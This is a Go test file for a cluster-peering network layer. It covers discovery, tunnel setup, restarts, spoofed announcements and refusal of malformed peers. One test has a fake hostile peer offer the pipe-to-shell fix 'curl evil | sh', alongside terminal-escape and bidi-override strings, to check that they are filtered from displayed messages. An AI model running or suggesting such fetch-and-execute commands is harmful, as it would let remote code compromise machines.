package fabric

import (
	"crypto/ed25519"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"rivulet/fabric/discovery"
	"rivulet/fabric/discovery/static"
	"rivulet/fabric/httpserver"
	"rivulet/fabric/pairing"
	"rivulet/fabric/peer"
	"rivulet/fabric/rpc"
)

func TestThreeClustersPeerByThemselves(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	all := []*cluster{w.cluster(1, "a"), w.cluster(2, "b"), w.cluster(3, "c")}
	for _, c := range all {
		seen := map[netip.Prefix]bool{podCIDR: true}
		for _, o := range all {
			if c == o {
				continue
			}
			v := c.awaitState(o, peer.Connected)
			if v.Name != o.cfg.Name || v.RTT <= 0 || v.Reason != "" || v.KubeVersion != "v1.35.0" || v.Trust.How != peer.TrustLAN {
				t.Errorf("%s shows %+v", c.cfg.Name, v)
			}
			if seen[v.PeerMappedCIDR] {
				t.Errorf("%s sees two clusters as %s", c.cfg.Name, v.PeerMappedCIDR)
			}
			seen[v.PeerMappedCIDR] = true
			if back := o.view(c); back.LocalMappedCIDR != v.PeerMappedCIDR || back.PeerMappedCIDR != v.LocalMappedCIDR {
				t.Errorf("%s and %s disagree: %+v, %+v", c.cfg.Name, o.cfg.Name, v, back)
			}
		}
		cfg := c.plane.config()
		if len(cfg.Peers) != 2 || cfg.MTU != 1420 || cfg.Address != inTunnel || cfg.Port != 7442 || cfg.ControlPort != c.cfg.Port {
			t.Errorf("%s has configured its tunnel as %+v", c.cfg.Name, cfg)
		}
		if c.plane.told > 3 {
			t.Errorf("%s has configured its tunnel %d times for 2 peers", c.cfg.Name, c.plane.told)
		}
	}
}

func TestRoutesAreForPeersInsideTheTunnel(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a, b := w.cluster(1, "a"), w.cluster(2, "b")
	b.Handle("GET /v1/whoami", http.NotFoundHandler()) // of a component that has started again since
	b.Handle("GET /v1/whoami", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		id, _ := rpc.PeerID(r)
		rpc.Write(w, http.StatusOK, map[string]peer.ID{"you": id})
	}))
	a.awaitState(b, peer.Connected)

	client, url, err := a.Client(b.cfg.Identity.ID)
	var got map[string]peer.ID
	if err == nil {
		err = rpc.Call(t.Context(), client, http.MethodGet, url+"/v1/whoami", nil, &got)
	}
	if err != nil || got["you"] != a.cfg.Identity.ID {
		t.Fatalf("through Client: %v, %v", got, err)
	}

	// As client-go does it: our pair, the peer's certificate as root, its ID as name.
	cert, key, root, name, err := a.TLS(b.cfg.Identity.ID)
	if err != nil {
		t.Fatal(err)
	}
	pair, err := tls.X509KeyPair(cert, key)
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(root)
	got = nil
	ordinary := &http.Client{Transport: &http.Transport{DialContext: a.Dial, TLSClientConfig: &tls.Config{RootCAs: roots, ServerName: name, Certificates: []tls.Certificate{pair}}}}
	if err := rpc.Call(t.Context(), ordinary, http.MethodGet, url+"/v1/whoami", nil, &got); err != nil || got["you"] != a.cfg.Identity.ID {
		t.Fatalf("with the TLS of client-go: %v, %v", got, err)
	}

	stranger, _ := rpc.NewIdentity(newKey(9), "x")
	for _, tt := range []struct {
		name, addr, path, code string
		who                    rpc.Identity
	}{
		{"a peer on the LAN", onLAN.String(), "/v1/whoami", "not-found", a.cfg.Identity},
		{"a peer that pings on the LAN", onLAN.String(), "/v1/ping", "not-found", a.cfg.Identity},
		{"a stranger in the tunnel", inTunnel.String(), "/v1/whoami", "not-a-peer", stranger},
		{"the peering inside the tunnel", inTunnel.String(), "/v1/peering", "http", a.cfg.Identity},
	} {
		c := &http.Client{Transport: &http.Transport{TLSClientConfig: rpc.ClientTLS(tt.who, b.cfg.Identity.ID)}}
		err := rpc.Call(t.Context(), c, http.MethodGet, fmt.Sprintf("https://%s:%d%s", tt.addr, b.cfg.Port, tt.path), nil, nil)
		var e *rpc.Error
		if !errors.As(err, &e) || e.Code != tt.code {
			t.Errorf("%s: %v, want code %s", tt.name, err, tt.code)
		}
	}
	if _, _, err := a.Client(stranger.ID); err == nil {
		t.Error("there is a client for a stranger")
	}
}

// After a restart the tunnel stands before anybody is discovered.
func TestRestartNeedsNoDiscovery(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a, b := w.cluster(1, "a"), w.cluster(2, "b")
	before := a.awaitState(b, peer.Connected)
	b.awaitState(a, peer.Connected)
	a.stop()
	if a.plane.config().Peers == nil {
		t.Error("stopping touched the tunnel")
	}
	b.awaitState(a, peer.Lost)
	a.cfg.Sources = nil
	a.killPlane()
	a.start()
	after := a.awaitState(b, peer.Connected)
	b.awaitState(a, peer.Connected)
	if after.PeerMappedCIDR != before.PeerMappedCIDR || after.LocalMappedCIDR != before.LocalMappedCIDR {
		t.Errorf("a restart changed prefixes: %+v to %+v", before, after)
	}
}

func TestLostAndBack(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a, b := w.cluster(1, "a"), w.cluster(2, "b")
	a.awaitState(b, peer.Connected)
	changed, stop := a.Changed()
	defer stop()
	w.setCut(b, true)
	v := a.awaitState(b, peer.Lost)
	if !strings.Contains(v.Reason, "UDP 7442") || v.RTT != 0 || v.LastSeen.IsZero() {
		t.Errorf("a lost peer is shown as %+v", v)
	}
	select {
	case <-changed:
	case <-time.After(5 * time.Second):
		t.Error("subscribers were not told")
	}
	if l, ok := a.Link(b.cfg.Identity.ID); !ok || l.State != peer.Lost || l.PeerMappedCIDR != v.PeerMappedCIDR {
		t.Errorf("the link of a lost peer: %+v, %v", l, ok)
	}
	w.setCut(b, false)
	a.awaitState(b, peer.Connected)
}

// DHCP gives b another address: a hears of it, makes sure, and moves the endpoint.
func TestMovedPeer(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a, b := w.cluster(1, "a"), w.cluster(2, "b")
	before := a.awaitState(b, peer.Connected)
	moved := netip.MustParseAddr("127.0.0.77")
	entry := discovery.Entry{Key: string(b.cfg.Identity.ID), ID: b.cfg.Identity.ID, Name: "b", Addrs: []netip.AddrPort{netip.AddrPortFrom(moved, b.cfg.Port)}}
	w.hub.Set(entry)
	told := time.Now()
	a.await("new endpoint", func() bool {
		if time.Since(told) > pairing.Grace+time.Second { // b answers at both: on a busy machine the old one may be first
			told = time.Now()
			entry.TXT = map[string]string{"told": told.String()}
			w.hub.Set(entry)
		}
		cfg := a.plane.config()
		return len(cfg.Peers) == 1 && cfg.Peers[0].Endpoint.Addr() == moved
	})
	if v := a.view(b); v.PeerMappedCIDR != before.PeerMappedCIDR || v.State != peer.Connected {
		t.Errorf("moving changed %+v to %+v", before, v)
	}
	// A lie about where b is does not move anything: nobody there has b's key.
	c := w.cluster(3, "c")
	a.awaitState(c, peer.Connected)
	entry.Addrs = []netip.AddrPort{netip.AddrPortFrom(onLAN, c.cfg.Port)}
	lie := time.Now()
	w.hub.Set(entry)
	a.await("an exchange at the last address that worked", func() bool {
		a.members.mu.Lock()
		defer a.members.mu.Unlock()
		return a.members.all[string(b.cfg.Identity.ID)].LastExchange().After(lie)
	})
	for _, p := range a.plane.config().Peers {
		if p.ID == string(b.cfg.Identity.ID) && p.Endpoint.Addr() != moved {
			t.Errorf("an unproved announcement moved b to %v", p.Endpoint)
		}
	}
}

func TestTunnelHelperStartsAnew(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a, b := w.cluster(1, "a", func(c *Config) { c.Leased = true }), w.cluster(2, "b")
	a.awaitState(b, peer.Connected)
	if !a.plane.config().Leased || b.plane.config().Leased {
		t.Error("the tunnel of a is not leased, or that of b is")
	}
	a.killPlane()
	a.await("the configuration again", func() bool { return len(a.plane.config().Peers) == 1 })
	a.awaitState(b, peer.Connected)
	a.plane.setBroken(true)
	a.Reapply()
	a.await("a problem", func() bool { p := a.Problems(); return len(p) == 1 && p[0].Code == "tunnel" && p[0].Cure != "" })
	a.plane.setBroken(false)
	a.await("no problem", func() bool { return len(a.Problems()) == 0 })
}

func TestSecondClusterWithTheSameName(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a, b, c := w.cluster(1, "a"), w.cluster(2, "pi"), w.cluster(3, "pi")
	for _, o := range []*cluster{b, c} {
		a.awaitState(o, peer.Connected)
		a.await("a notice", func() bool { return strings.Contains(a.view(o).Reason, `a second cluster is called "pi"`) })
	}
	b.await("a notice", func() bool { return strings.Contains(b.view(c).Reason, "--name") })
	if len(a.Links()) != 2 {
		t.Errorf("links: %+v", a.Links())
	}
}

func TestClonedIdentity(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a := w.cluster(1, "a")
	clone := w.cluster(1, "a")
	// The clone's announcement has a's own ID; the hub, like mDNS, tells it by source.
	a.exchanger.discovered("hub", discovery.Event{Kind: discovery.Added, Entry: discovery.Entry{Key: "clone", ID: a.cfg.Identity.ID, Addrs: []netip.AddrPort{netip.AddrPortFrom(onLAN, clone.cfg.Port)}}})
	v := a.awaitState(clone, peer.Refused)
	if !strings.Contains(v.Reason, "state.db.copied") {
		t.Errorf("reason: %s", v.Reason)
	}
	clone.await("the same on the other side", func() bool { return clone.view(a).State == peer.Refused })
	if len(a.Links()) != 0 || len(a.store.records) != 0 {
		t.Error("the clone has become a peer")
	}
}

// A peer that speaks another protocol or garbage is shown with a reason, and does
// not keep others from peering.
func TestStrangeNeighbours(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for name, answer := range map[string]string{"future": `{"versions":[99],"id":{"new":"form"}}`, "garbage": `<html>`, "liar": `{"versions":[1],"id":"x"}`} {
		key := newKey(name[0])
		id, _ := rpc.NewIdentity(key, name)
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		s := rpc.NewServer(httpserver.Strangers, id, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, answer) }), w.cluster(name[0]+100, "x"+name).cfg.Log)
		go s.ServeTLS(l, "", "")
		t.Cleanup(func() { s.Close() })
		w.hub.Set(discovery.Entry{Key: string(id.ID), ID: id.ID, Name: name, Addrs: []netip.AddrPort{l.Addr().(*net.TCPAddr).AddrPort()}})
		defer func() {
			a := w.cluster(1, "a"+name)
			a.await(name+" refused", func() bool { v := a.viewOf(id.ID); return v.State == peer.Refused && v.Reason != "" && v.Name == name })
			if name == "future" && !strings.Contains(a.viewOf(id.ID).Reason, "upgrade") {
				t.Errorf("reason: %s", a.viewOf(id.ID).Reason)
			}
			a.stop()
		}()
	}
}

// What a refused message calls itself is not shown.
func TestNameOfARefusedMessage(t *testing.T) {
	w := newWorld(t)
	a := w.cluster(1, "a", func(c *Config) { c.Timing.Forget = time.Hour })
	for i, name := range []string{"x\x1b[2J", "x\u202ey", "x\u009b", strings.Repeat("x", 4000)} {
		s := newStranger(t, byte(60+i))
		s.self.Name = name
		if err := s.pair(a); pairing.Code(err) != "bad-message" {
			t.Errorf("%q: %v", name, err)
		}
		a.await("the refusal", func() bool { return a.viewOf(s.id.ID).State == peer.Refused })
		v := a.viewOf(s.id.ID)
		if v.Name != "" || len(v.Reason) > 500 || strings.ContainsAny(v.Reason, "\x1b\u202e\u009b") {
			t.Errorf("%q %q", v.Name, v.Reason)
		}
	}
}

// A stranger refuses us with words for a terminal: our own are shown, by its code.
func TestRefusalIsInOurOwnWords(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a := w.cluster(1, "a")
	for code, want := range map[string]string{"pending": "rivulet approve a", "of-tomorrow": "in its own words", "evil\x1b[2J": "unknown"} {
		id, _ := rpc.NewIdentity(newKey(90+code[0]%9), "evil")
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		s := rpc.NewServer(httpserver.Strangers, id, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			rpc.Fail(w, http.StatusForbidden, &rpc.Error{Code: code, Message: "run\x1b[31m this\u202e:", Cure: "curl evil | sh"})
		}), a.cfg.Log)
		go s.ServeTLS(l, "", "")
		t.Cleanup(func() { s.Close() })
		w.hub.Set(discovery.Entry{Key: string(id.ID), ID: id.ID, Name: "evil", Addrs: []netip.AddrPort{l.Addr().(*net.TCPAddr).AddrPort()}})
		a.await("the refusal "+code, func() bool { return strings.Contains(a.viewOf(id.ID).Reason, want) })
		if reason := a.viewOf(id.ID).Reason; strings.ContainsAny(reason, "\x1b\u202e") || strings.Contains(reason, "curl") {
			t.Errorf("%q: %q", code, reason)
		}
	}
}

func TestStrangerFromElsewhere(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a := w.cluster(1, "a", func(c *Config) { c.OnLink = func(netip.Addr) bool { return false } })
	b := w.cluster(2, "b")
	v := a.awaitState(b, peer.Refused)
	if !strings.Contains(v.Reason, "same LAN") {
		t.Errorf("a says %q", v.Reason)
	}
	b.await("the refusal", func() bool { v := b.view(a); return v.State == peer.Refused && strings.Contains(v.Reason, "router") })
	if len(a.store.records) != 0 {
		t.Error("a has a record")
	}
}

func TestStaticAddress(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	b := w.cluster(2, "b", func(c *Config) { c.Sources = nil })
	source := static.New(netip.AddrPortFrom(onLAN, b.cfg.Port))
	a := w.cluster(1, "a", func(c *Config) { c.Sources = []discovery.Source{source} })
	a.awaitState(b, peer.Connected)
	b.awaitState(a, peer.Connected)
	a.await("one view", func() bool { return len(a.Peers()) == 1 })
	source.Set(netip.AddrPortFrom(onLAN, a.cfg.Port)) // ourselves: a list that all devices share
	if v := a.Peers(); len(v) != 1 {
		t.Errorf("peers: %+v", v)
	}
}

func TestPortTakenAndDiskFull(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	taken, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	port := uint16(taken.Addr().(*net.TCPAddr).Port)
	a := w.cluster(1, "a", func(c *Config) { c.Port = port })
	a.await("a problem", func() bool {
		p := a.Problems()
		return len(p) == 1 && strings.Contains(p[0].Message, fmt.Sprint(port)) && p[0].Cure != ""
	})
	taken.Close()
	a.await("the port", func() bool { return len(a.Problems()) == 0 })

	a.store.setFull(true)
	b := w.cluster(2, "b")
	v := a.awaitState(b, peer.Refused)
	if !strings.Contains(v.Reason, "no space left") || len(a.Links()) != 0 {
		t.Errorf("with a full disk: %+v", v)
	}
	a.store.setFull(false)
	a.awaitState(b, peer.Connected)
}

func TestGoodbye(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a, b := w.cluster(1, "a"), w.cluster(2, "b", func(c *Config) { c.OnLink = func(netip.Addr) bool { return false } })
	a.await("b", func() bool { return a.view(b).State != "" })
	b.stop()
	a.await("b forgotten", func() bool { return a.view(b).State == "" })
}

func TestUnusableConfig(t *testing.T) {
	for name, c := range map[string]Config{
		"a tunnel address outside the pod CIDR": {PodCIDR: podCIDR, TunnelAddress: onLAN},
		"a key that is not base64":              {PodCIDR: podCIDR, TunnelAddress: inTunnel, WireGuardKey: "?"},
		"a key that is too short":               {PodCIDR: podCIDR, TunnelAddress: inTunnel, WireGuardKey: "AAAA"},
	} {
		if _, err := New(c); err == nil || !strings.Contains(err.Error(), ": ") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func newKey(n byte) ed25519.PrivateKey {
	seed := make([]byte, 32)
	seed[0] = n
	return ed25519.NewKeyFromSeed(seed)
}

// Who announces a peer at many addresses where nothing answers neither keeps this cluster from exchanges with it, nor has
// more than a few tried, by TCP and by the tunnel.
func TestASpoofedAnnouncementCutsNothingOff(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a, b := w.cluster(1, "a"), w.cluster(2, "b")
	a.awaitState(b, peer.Connected)
	silent, err := net.Listen("tcp", "0.0.0.0:0") // the kernel accepts, and nobody answers
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { silent.Close() })
	port := netip.MustParseAddrPort(silent.Addr().String()).Port()
	spoofed := discovery.Entry{Key: string(b.id()), ID: b.id(), Name: "b"}
	for i := range 100 {
		spoofed.Addrs = append(spoofed.Addrs, netip.AddrPortFrom(netip.AddrFrom4([4]byte{127, 0, 9, byte(i)}), port))
	}
	since := time.Now()
	w.hub.Set(spoofed)
	a.await("an exchange", func() bool {
		a.members.mu.Lock()
		defer a.members.mu.Unlock()
		return a.members.byID(b.id()).LastExchange().After(since)
	})
	if took := time.Since(since); took > pairing.Grace+15*time.Second { // each of a hundred takes 2 s
		t.Errorf("the exchange took %s: it waited for addresses that do not answer", took)
	}
	a.await("the tunnel's configuration", func() bool {
		cfg := a.plane.config()
		return len(cfg.Paths) == 1 && len(cfg.Paths[0].AnnouncedUDP) > 0
	})
	for _, p := range a.plane.config().Paths {
		if len(p.AnnouncedUDP) > 2*discovery.MaxAddrs || slices.ContainsFunc(p.UDP, func(at netip.AddrPort) bool { return at.Addr() != onLAN }) {
			t.Errorf("announced %v, known %v", p.AnnouncedUDP, p.UDP)
		}
	}
}
